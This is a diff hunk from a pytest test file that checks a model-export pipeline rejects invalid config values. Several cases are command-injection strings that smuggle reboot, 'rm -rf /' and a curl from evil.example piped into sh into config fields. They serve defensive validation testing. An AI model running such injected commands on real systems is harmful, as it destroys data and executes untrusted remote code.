@@ -154,7 +154,7 @@ def test_bad_checkpoint_fails_export_at_once_and_never_runs_code(dag_env, local_
 @pytest.mark.slow
 @pytest.mark.parametrize("conf, needle", [
     ({"num_grids": "ten"}, "num_grids"),
-    ({"num_grids": 100001}, "num_grids"),
+    ({"num_grids": 10_000_001}, "num_grids"),  # MAX_GRIDS + 1
     ({"soc_version": "Ascend310P3;reboot"}, "soc_version"),
     ({"devices": ["0; rm -rf /"]}, "devices"),
     ({"checkpoint": "models/g.pth && curl evil.example | sh"}, "checkpoint"),
